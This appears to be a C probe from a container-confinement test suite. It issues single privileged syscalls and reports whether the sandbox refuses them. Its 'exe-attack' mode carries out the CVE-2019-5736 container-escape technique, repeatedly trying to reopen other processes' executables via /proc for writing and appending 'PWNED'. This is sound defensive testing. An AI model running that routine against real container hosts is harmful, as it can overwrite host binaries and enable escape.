/* A tiny static probe the confinement tests run inside containers: it makes
 * one raw system call and prints "NAME ok" or "NAME ERRNO-NAME", so tests do
 * not depend on keyctl, strace or other tools being in the image. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#ifdef SYS_open_tree_attr
#define OPEN_TREE_ATTR SYS_open_tree_attr
#else
#define OPEN_TREE_ATTR 467 /* Linux 6.15, x86_64's number, newer than most headers */
#endif

static const char *name(int e) {
  switch (e) {
  case EPERM: return "EPERM";
  case ENOSYS: return "ENOSYS";
  case ESRCH: return "ESRCH";
  case EACCES: return "EACCES";
  case EINVAL: return "EINVAL";
  case ENOENT: return "ENOENT";
  case ETXTBSY: return "ETXTBSY";
  case EROFS: return "EROFS";
  default: return "other";
  }
}

/* Open `path` for writing and append a marker: counts a success in *wrote,
 * notes the errno of a refusal in refused[]. */
static void try_write(const char *path, int *wrote, int *refused) {
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd >= 0) {
    *wrote += write(fd, "PWNED", 5) == 5;
    close(fd);
  } else if (errno < 256)
    refused[errno] = 1;
}

/* CVE-2019-5736's attack, for SECS seconds: take an O_PATH descriptor of
 * every other process's executable (except busybox and this probe), and
 * keep trying to reopen each one for writing, through /proc/PID/exe while
 * the process runs and through /proc/self/fd/N after it has exited. Prints
 * "held N" (descriptors taken), each target's name once, and "wrote N". */
static int exe_attack(int secs) {
  int held[256], n = 0, wrote = 0, refused[256] = {0};
  char self[4096] = {0};
  struct stat bb;
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || stat("/bin/busybox", &bb)) return 1;
  time_t end = time(0) + secs;
  while (time(0) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char path[64], target[4096] = {0};
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      if (readlink(path, target, sizeof target - 1) < 0) continue;
      struct stat t;
      if (!strcmp(target, self) || stat(path, &t) ||
          (t.st_dev == bb.st_dev && t.st_ino == bb.st_ino))
        continue;
      try_write(path, &wrote, refused);
      int fd = open(path, O_PATH);
      if (fd < 0) continue;
      struct stat a, b;
      int dup = 0;
      fstat(fd, &a);
      for (int i = 0; i < n; i++)
        if (!fstat(held[i], &b) && a.st_dev == b.st_dev && a.st_ino == b.st_ino) dup = 1;
      if (dup || n == 256) {
        close(fd);
        continue;
      }
      held[n++] = fd;
      printf("target %s\n", target);
    }
    if (d) closedir(d);
    for (int i = 0; i < n; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      try_write(path, &wrote, refused);
    }
  }
  for (int e = 1; e < 256; e++)
    if (refused[e]) printf("refused %s\n", name(e));
  printf("held %d\nwrote %d\n", n, wrote);
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  if (!strcmp(argv[1], "exe-attack")) return exe_attack(argc > 2 ? atoi(argv[2]) : 5);
  const char *w = argv[1];
  const char *a = argc > 2 ? argv[2] : "0";
  long r;
  if (!strcmp(w, "keyctl")) /* KEYCTL_GET_KEYRING_ID of the session keyring */
    r = syscall(SYS_keyctl, 0, -3, 0);
  else if (!strcmp(w, "add_key"))
    r = syscall(SYS_add_key, "user", "hutch-probe", "x", 1, -3);
  else if (!strcmp(w, "request_key"))
    r = syscall(SYS_request_key, "user", "hutch-probe", 0, 0);
  else if (!strcmp(w, "unshare-user"))
    r = syscall(SYS_unshare, CLONE_NEWUSER);
  else if (!strcmp(w, "clone-user"))
    r = syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0);
  else if (!strcmp(w, "bpf"))
    r = syscall(SYS_bpf, 0, 0, 0);
  else if (!strcmp(w, "perf_event_open"))
    r = syscall(SYS_perf_event_open, 0, 0, -1, -1, 0);
  else if (!strcmp(w, "kexec_load"))
    r = syscall(SYS_kexec_load, 0, 0, 0, 0);
  else if (!strcmp(w, "init_module"))
    r = syscall(SYS_init_module, 0, 0, "");
  else if (!strcmp(w, "clock_settime")) {
    struct timespec ts = {0, 0};
    r = syscall(SYS_clock_settime, 0, &ts);
  } else if (!strcmp(w, "ptrace"))
    r = syscall(SYS_ptrace, PTRACE_ATTACH, atoi(a), 0, 0);
  else if (!strcmp(w, "mknod-char"))
    r = mknod(a, S_IFCHR | 0600, makedev(1, 3));
  else if (!strcmp(w, "open_tree_attr")) /* the empty path: ENOENT if let through */
    r = syscall(OPEN_TREE_ATTR, -1, "", 0, 0, 0);
  else if (!strcmp(w, "setgroups")) {
    gid_t g = 65534;
    r = syscall(SYS_setgroups, 1, &g);
  } else
    return 2;
  if (r < 0)
    printf("%s %s\n", w, name(errno));
  else
    printf("%s ok\n", w);
  return 0;
}
